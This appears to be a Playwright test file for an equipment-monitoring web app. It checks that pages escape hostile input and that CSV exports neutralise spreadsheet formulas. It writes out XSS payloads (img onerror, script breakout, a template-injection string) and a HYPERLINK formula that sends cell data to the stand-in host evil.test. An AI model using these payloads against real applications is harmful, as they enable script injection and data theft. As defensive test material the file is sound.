import { randomUUID } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import { eq } from 'drizzle-orm'
import { db } from '@/db/client'
import { equipment, oneTimeTokens } from '@/db/schema'
import { arrangePerson } from '@/features/accounts/arrange-person'
import { issueDeviceKey } from '@/features/devices/commands'
import { logMaintenance } from '@/features/maintenance/commands'
import { arrangeEquipment } from './arrange'
import { arrangeAlert } from './arrange-alert'
import { carrySession } from './carry-session'
import { expect, test } from './story'

test.use({ role: 'admin' })

/** What would do something, were it not shown as the text that it is. Each runs into the title, which the pages must keep. */
const texts = {
  'an element with a handler': `<img src=x onerror="document.title='owned'">`,
  'the end of a script': `</script><script>document.title='owned'</script>`,
  'a formula': '=HYPERLINK("http://evil.test/?"&A1,"Look")',
  'a turn of the direction': '\u202Egnp.exe \u2066reversed',
  'a name of 255 characters': `<b>&amp;"'`.padEnd(255, '<i>&lt;'),
  'a template and a link': '{{constructor.constructor("document.title=1")()}} javascript:alert(1)',
}

/** Everything that has a name or a text, called so. */
async function arrangeAll(text: string) {
  const mark = randomUUID().slice(0, 8)
  const place = { name: text, site: `${text.slice(0, 240)} ${mark}`, area: text, workCenter: text, workUnit: text }
  const { tag } = await arrangeEquipment({ tag: `${text.slice(0, 50)} ${mark}`, ...place })
  const [machine] = await db.select({ id: equipment.id }).from(equipment).where(eq(equipment.tag, tag))
  const sensor = { sensorId: `${text.slice(0, 200)} ${mark}`, name: text, equipmentTag: tag, location: text }
  const own = { equipmentId: machine?.id, message: text, recommendedAction: text, severity: 'critical' } as const
  const alert = await arrangeAlert(own, { ...sensor, unit: text.slice(0, 50), type: text.slice(0, 50) })
  const log = { activity: 'inspection', description: text, partsUsed: text, resolveAlert: false } as const
  const { person } = await arrangePerson('admin', { name: text, email: `${mark}@plant.example` })
  await logMaintenance(person, { ...log, idempotencyKey: randomUUID(), alertId: alert.id })
  const key = await issueDeviceKey(person, { name: text, sensorIds: [sensor.sensorId] })
  const expiresAt = new Date(Date.now() + 3_600_000)
  const invitation = { purpose: 'invitation', email: `i-${mark}@plant.example`, role: 'viewer', expiresAt } as const
  await db
    .insert(oneTimeTokens)
    .values({ ...invitation, secretHash: mark.repeat(8), sites: [text], createdById: person.id })
  return { person, tag, sensorId: sensor.sensorId, machineId: machine?.id, alertId: alert.id, keyId: key.id }
}

for (const [kind, text] of Object.entries(texts)) {
  test(`${kind} stays a text on every page`, async ({ page, context, plant }) => {
    test.setTimeout(120_000)
    const { person, tag, sensorId, machineId, alertId, keyId } = await arrangeAll(text)
    const { headers } = await arrangePerson('admin', { name: text, email: `v-${person.id}@plant.example` })
    await carrySession(context, headers, plant)
    const id = encodeURIComponent(sensorId)
    const paths = {
      '/': false,
      [`/sensors?search=${id}`]: true,
      [`/sensors/${id}`]: true,
      [`/sensors/${id}/edit`]: false,
      [`/sensors/new?equipment=${encodeURIComponent(tag)}`]: false,
      '/alerts': true,
      [`/alerts/${alertId}`]: true,
      '/maintenance': true,
      [`/equipment?search=${encodeURIComponent(tag)}`]: true,
      [`/equipment/${machineId}`]: true,
      '/people': true,
      '/devices': true,
      [`/devices/${keyId}`]: true,
      '/devices/new': false,
      [`/audit?who=${encodeURIComponent(text.slice(0, 100))}`]: true,
      '/account': true,
      '/registry/import': false,
    }
    for (const [path, isShown] of Object.entries(paths)) {
      await page.goto(path)
      await expect(page.getByRole('heading', { level: 1 }), path).toBeVisible()
      expect(await page.title(), path).not.toBe('owned')
      expect(await page.locator('img[src="x"]').count(), path).toBe(0)
      const shown = await page.locator('body').textContent()
      if (isShown) expect(shown?.includes(text.slice(0, 50)), `${path} shows it`).toBe(true)
    }
  })

  test(`${kind} comes out of an export as no formula`, async ({ page }) => {
    const { person, sensorId } = await arrangeAll(text)
    for (const path of [
      '/api/registry',
      `/api/audit-entries?format=csv&who=${encodeURIComponent(text.slice(0, 100))}`,
    ]) {
      const answer = await page.request.get(path)
      expect(answer.status(), path).toBe(200)
      const rows: string[][] = parse(await answer.body(), { bom: true, relax_column_count: true })
      const cells = rows.flat().filter((cell) => /^[=+\-@\t\r\n]/.test(cell) && !/^-\d/.test(cell))
      expect(cells, path).toEqual([])
      const plain = rows.flat().map((cell) => cell.replace(/^'(?=[=+\-@])/, ''))
      expect(plain, path).toContain(path.includes('audit') ? person.name : sensorId)
    }
  })
}
